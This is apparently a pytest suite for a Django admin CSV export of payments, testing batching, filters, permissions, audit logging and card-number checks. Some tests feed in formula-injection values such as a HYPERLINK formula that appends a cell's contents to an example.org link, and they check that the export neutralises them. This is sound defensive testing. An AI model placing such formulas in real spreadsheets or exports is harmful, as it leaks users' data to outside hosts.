"""The list as a file: all of it, as it is searched and filtered, and never all of it in memory."""

import csv
import io
from datetime import UTC, datetime, timedelta
from typing import Any

import pytest
from django.contrib.auth.models import Permission, User
from django.urls import reverse

from office.payments import export
from office.payments.search import Search
from office.search.models import FoundPayment
from payments.domain.states import Mode, OperationKind
from payments.models import Event, Payment
from tests.benchmarks.plans import recorded
from tests.office.pages.conftest import LIST, Staff
from tests.support.factories import MerchantFactory, OperationFactory, PaymentFactory
from tests.support.searchable import make_searchable

EXPORT = "admin:payments_payment_export"
WHY = {"reason": "the month ends"}
CARD_NUMBER = "4539578763621486"


@pytest.fixture
def accountant(db: None) -> Staff:
    """Someone who may look at payments and take them away."""
    user = User.objects.create_user("lee", password="x", is_staff=True)
    user.user_permissions.add(*Permission.objects.filter(codename__in=["view_payment", "export_payments"]))
    return Staff(user)


def exported(staff: Staff, **asked: Any) -> list[dict[str, str]]:
    """The file's rows by their headings."""
    response = staff.client.post(reverse(EXPORT), WHY, query_params=asked)
    assert response.status_code == 200, response
    text = response.getvalue().decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(text)))


def orders(staff: Staff, **asked: Any) -> list[str]:
    return [row["order"] for row in exported(staff, **asked)]


class TestTheFile:
    def test_has_a_line_of_headings_and_one_for_each_payment_newest_first(self, accountant: Staff) -> None:
        for day in (2, 3, 1):
            PaymentFactory(order_id=f"day-{day}", created_at=datetime(2026, 11, day, tzinfo=UTC))
        assert orders(accountant) == ["day-3", "day-2", "day-1"]

    def test_has_amounts_as_numbers_and_times_in_utc(self, accountant: Staff) -> None:
        payment = PaymentFactory(
            captured=True,
            amount_minor=123456,
            card_last4="0042",
            created_at=datetime(2026, 11, 21, 9, 30, tzinfo=UTC),
        )
        OperationFactory(payment=payment, kind=OperationKind.REFUND)
        (row,) = exported(accountant)
        assert row["payment"] == payment.public_id
        assert (row["amount"], row["amount (minor units)"], row["currency"]) == ("1234.56", "123456", "USD")
        assert row["created_at (UTC)"] == "2026-11-21 09:30:00"
        assert (row["state"], row["pending"], row["card"]) == ("CAPTURED", "refund", "visa 0042")
        assert row["capture"] == payment.bank_capture_id
        assert row["voided_at (UTC)"] == ""

    @pytest.mark.parametrize("begin", ["=", "+", "-", "@", "\t", "\r", "\n"])
    def test_has_no_formulas(self, accountant: Staff, begin: str) -> None:
        text = f'{begin}HYPERLINK("https://example.org?"&A1)'
        merchant = MerchantFactory(slug="formula", name=text)
        PaymentFactory(order_id=text, customer_id=text, merchant=merchant)
        (row,) = exported(accountant)
        assert [row[name] for name in ("order", "customer", "merchant")] == [f"'{text}"] * 3

    @pytest.mark.parametrize("separator", [";", "|", "; ", ";\t"])
    def test_has_no_formula_where_a_spreadsheet_may_begin_a_new_cell(
        self, accountant: Staff, separator: str
    ) -> None:
        PaymentFactory(order_id=f"x{separator}=HYPERLINK(1)", customer_id="a, -b; c")
        (row,) = exported(accountant)
        assert f"{separator}=" not in row["order"]
        assert row["order"].replace("'", "") == f"x{separator}=HYPERLINK(1)"
        assert row["customer"] == "a, -b; c"

    @pytest.mark.parametrize(
        "text",
        [
            *(
                "0012345",
                "12345678901234567890",
                "1e10",
                "1E5",
                "1-2",
                "1/2",
                "2026-11-21",
                "12:30",
                "5%",
                "$5",
            ),
            *("1.50", "1,000", "MAR1", "1-Dec", "5pm", "true", "-5", "+49123", "(5)", "12d3"),
        ],
    )
    def test_has_ids_that_a_spreadsheet_leaves_as_they_are(self, accountant: Staff, text: str) -> None:
        PaymentFactory(order_id=text, customer_id=text)
        (row,) = exported(accountant)
        assert (row["order"], row["customer"]) == (f"'{text}", f"'{text}")

    @pytest.mark.parametrize("text", ["order-1", "A0012", "march", "trueblue", "c-19", "2026-x", "1e10x"])
    def test_has_other_ids_as_they_are(self, accountant: Staff, text: str) -> None:
        PaymentFactory(order_id=text)
        (row,) = exported(accountant)
        assert row["order"] == text

    def test_keeps_what_has_a_comma_a_quote_or_a_foreign_letter(self, accountant: Staff) -> None:
        PaymentFactory(order_id='a,"b"\nc', customer_id="Jürgen")
        (row,) = exported(accountant)
        assert (row["order"], row["customer"]) == ('a,"b"\nc', "Jürgen")

    def test_has_no_email_description_or_metadata(self, accountant: Staff) -> None:
        PaymentFactory(customer_email="kim@example.org", description="shoes", metadata={"size": "44"})
        assert not {"kim@example.org", "shoes", "44"} & set(exported(accountant)[0].values())

    def test_is_a_download_that_nobody_stores(self, accountant: Staff) -> None:
        response = accountant.client.post(reverse(EXPORT), WHY)
        assert response["Content-Type"] == "text/csv; charset=utf-8"
        assert response["Content-Disposition"].startswith('attachment; filename="payments-2')
        assert "no-store" in response["Cache-Control"]


class TestWhatIsExported:
    def test_is_what_the_search_and_the_filters_find(self, accountant: Staff) -> None:
        other = MerchantFactory(slug="other", name="Other")
        PaymentFactory(captured=True, order_id="ours", customer_id="kim")
        PaymentFactory(captured=True, order_id="a-test", customer_id="kim", mode=Mode.TEST)
        PaymentFactory(declined=True, order_id="declined", customer_id="kim")
        PaymentFactory(captured=True, order_id="theirs", customer_id="joe", merchant=other)
        unclear = PaymentFactory(
            authorized=True, order_id="unclear", created_at=datetime(2020, 1, 1, tzinfo=UTC)
        )
        OperationFactory(payment=unclear, kind=OperationKind.CAPTURE, needs_review=True)
        assert orders(accountant, q="kim", mode="all") == ["declined", "a-test", "ours"]
        assert orders(accountant, q="kim", state="CAPTURED") == ["ours"]
        assert orders(accountant, q="kim", state="CAPTURED", mode="live") == ["ours"]
        assert orders(accountant, merchant=other.pk) == ["theirs"]
        assert orders(accountant, attention="needs_review") == ["unclear"]
        assert orders(accountant, created_to="2020-12-31") == ["unclear"]

    def test_is_of_the_same_days_as_the_list(self, accountant: Staff) -> None:
        PaymentFactory(order_id="late", created_at=datetime(2026, 11, 21, 23, 30, tzinfo=UTC))
        day = {"created_from": "2026-11-22", "created_to": "2026-11-22"}
        assert orders(accountant, **day) == accountant.found(**day) == []
        berlin = day | {"zone": "Europe/Berlin"}
        assert orders(accountant, **berlin) == accountant.found(**berlin) == ["late"]
        assert Event.objects.latest("id").evidence["filter"] == berlin

    @pytest.mark.parametrize("asked", [{"q": "lost"}, {"state": "FAILED"}])
    def test_is_nothing_where_nothing_matches(self, accountant: Staff, asked: dict[str, str]) -> None:
        PaymentFactory()
        assert exported(accountant, **asked) == []

    @pytest.mark.parametrize(
        "asked",
        [
            *({"state": "BOUGHT"}, {"attention": "none"}, {"created_to": "yesterday"}),
            {"created_from": "2026-11-22", "created_to": "2026-11-21"},
        ],
    )
    def test_is_no_file_where_a_filter_cannot_be(self, accountant: Staff, asked: dict[str, str]) -> None:
        PaymentFactory()
        response = accountant.client.post(reverse(EXPORT), WHY, query_params=asked)
        assert "Nothing was exported." in accountant.read(response["Location"])
        assert not Event.objects.exists()

    def test_is_what_the_list_found_by_words_through_all_batches(
        self, accountant: Staff, monkeypatch: pytest.MonkeyPatch
    ) -> None:
        """Whether ids or words were meant is decided once: else a last batch of ids would end in words."""
        monkeypatch.setattr(export, "BATCH", 2)
        for number in range(4):
            PaymentFactory(order_id=f"by-words-{number}", description="blue mugs")
        assert len(orders(accountant, q="blue mugs")) == 4
        for number in range(2):
            PaymentFactory(order_id=f"by-id-{number}", customer_id="blue")
        assert orders(accountant, q="blue") == ["by-id-1", "by-id-0"]
        assert len(orders(accountant, q="blue", **{"in": "words"})) == 4

    def test_is_all_of_it_however_many_batches_that_takes(
        self, accountant: Staff, monkeypatch: pytest.MonkeyPatch
    ) -> None:
        """Payments of one moment are neither left out nor doubled where a batch ends between them."""
        monkeypatch.setattr(export, "BATCH", 3)
        moment = datetime(2026, 11, 21, tzinfo=UTC)
        for number in range(10):
            PaymentFactory(customer_id="kim", created_at=moment - timedelta(seconds=number // 5))
        newest_first = list(Payment.objects.order_by("-created_at", "-id").values_list("order_id", flat=True))
        assert orders(accountant) == newest_first
        assert orders(accountant, q="kim") == newest_first

    def test_says_so_where_a_spreadsheet_ends(
        self, accountant: Staff, monkeypatch: pytest.MonkeyPatch
    ) -> None:
        monkeypatch.setattr(export, "BATCH", 2)
        monkeypatch.setattr(export, "ROWS_AT_MOST", 4)
        for _ in range(5):
            PaymentFactory()
        rows = exported(accountant)
        assert len(rows) == 5
        assert rows[-1]["payment"].startswith("Incomplete: only the newest 4 payments.")


@pytest.mark.usefixtures("db")
class TestStreaming:
    def test_sends_the_first_lines_before_the_last_are_read(self, monkeypatch: pytest.MonkeyPatch) -> None:
        monkeypatch.setattr(export, "BATCH", 2)
        for _ in range(6):
            PaymentFactory()
        make_searchable()
        lines = export.as_csv(FoundPayment.objects.all(), Search(""))
        with recorded() as seen:
            assert next(lines).startswith("\ufeffpayment,")
            assert not seen.statements
            assert next(lines).count("\r\n") == 2
            assert len(seen.statements) == 2  # which payments, and what they are now
            assert "LIMIT 2" in seen.statements[0][0]
            assert len(list(lines)) == 2

    def test_holds_no_more_than_a_batch(self, monkeypatch: pytest.MonkeyPatch) -> None:
        monkeypatch.setattr(export, "BATCH", 5)
        for _ in range(23):
            PaymentFactory(customer_id="kim")
        make_searchable()
        for term in ("", "kim"):
            parts = list(export.as_csv(FoundPayment.objects.all(), Search(term)))
            assert [part.count("\r\n") for part in parts] == [1, 5, 5, 5, 5, 3]


class TestWhoMay:
    def test_sees_a_button_beside_what_was_found(self, accountant: Staff, support: Staff) -> None:
        PaymentFactory(customer_id="kim")
        assert "Export as CSV" in accountant.payments()
        assert "Export as CSV" not in support.payments()
        assert "Export as CSV" not in accountant.payments(q="lost")

    def test_sends_along_what_the_list_shows(self, accountant: Staff) -> None:
        PaymentFactory(captured=True, customer_id="kim")
        page = accountant.client.get("/admin/payments/payment/", {"q": "kim", "state": "CAPTURED"})
        assert f'action="{reverse(EXPORT)}?q=kim&amp;state=CAPTURED"' in page.content.decode()

    def test_is_nobody_without_the_permission(self, support: Staff) -> None:
        PaymentFactory()
        assert support.client.post(reverse(EXPORT)).status_code == 403
        assert not Event.objects.exists()

    def test_needs_to_see_payments_too(self, db: None) -> None:
        user = User.objects.create_user("lee", password="x", is_staff=True)
        user.user_permissions.add(Permission.objects.get(codename="export_payments"))
        assert Staff(user).client.post(reverse(EXPORT)).status_code == 403

    def test_takes_nothing_by_a_link(self, accountant: Staff) -> None:
        PaymentFactory()
        answer = accountant.client.get(reverse(EXPORT), WHY)
        assert (answer.status_code, answer["Location"]) == (302, reverse(LIST))
        assert not Event.objects.exists()


class TestTheLog:
    def test_says_who_took_what_from_where(self, accountant: Staff) -> None:
        PaymentFactory(customer_id="kim")
        accountant.client.post(
            reverse(EXPORT),
            WHY,
            query_params={"q": " kim ", "state": "", "mode": "live", "unknown": "x"},
            headers={"X-Request-ID": "export-1"},
        )
        event = Event.objects.get()
        assert event.type == Event.Type.PAYMENTS_EXPORTED
        assert (event.actor, event.request_id, event.payment) == ("staff:lee", "export-1", None)
        lee = User.objects.get(username="lee").pk
        assert event.evidence == {
            "filter": {"q": "kim", "mode": "live"},
            "reason": "the month ends",
            "user": lee,
            "from": "127.0.0.1",
        }

    @pytest.mark.parametrize(
        "reason", ["", "  ", "for 4111 1111 1111 1111", "4111,1111,1111,1111", "x" * 501]
    )
    def test_needs_a_reason(self, accountant: Staff, reason: str) -> None:
        PaymentFactory()
        answer = accountant.client.post(
            reverse(EXPORT), {"reason": reason}, query_params={"state": "CAPTURED"}
        )
        assert answer["Location"] == "/admin/payments/payment/?state=CAPTURED"
        assert "Nothing was exported." in accountant.read(answer["Location"])
        assert not Event.objects.exists()

    def test_says_so_before_the_first_line_is_sent(self, accountant: Staff) -> None:
        response = accountant.client.post(reverse(EXPORT), WHY)
        assert Event.objects.count() == 1
        assert list(response)

    def test_knows_the_caller_behind_a_proxy(self, accountant: Staff, settings: Any) -> None:
        """The proxy's own word is the last one; what a caller claims stands before it."""
        settings.BEHIND_PROXY = True
        accountant.client.post(reverse(EXPORT), WHY, headers={"X-Forwarded-For": "10.0.0.1, 192.0.2.7"})
        assert Event.objects.get().evidence["from"] == "192.0.2.7"

    @pytest.mark.parametrize("field", ["q", "state", "attention", "merchant", "created_to"])
    def test_never_holds_a_card_number(self, accountant: Staff, field: str) -> None:
        response = accountant.client.post(reverse(EXPORT), WHY, query_params={field: CARD_NUMBER})
        assert response.status_code == 400
        parted = " | ".join(CARD_NUMBER[begin : begin + 4] for begin in range(0, 16, 4))
        response = accountant.client.post(reverse(EXPORT), WHY, query_params={field: parted})
        assert response["Location"] == reverse("admin:payments_payment_card_number_refused")
        assert not Event.objects.exists()

    def test_survives_what_no_database_can_hold(self, accountant: Staff) -> None:
        PaymentFactory(order_id="lost")
        assert orders(accountant, q="lo\x00st") == ["lost"]
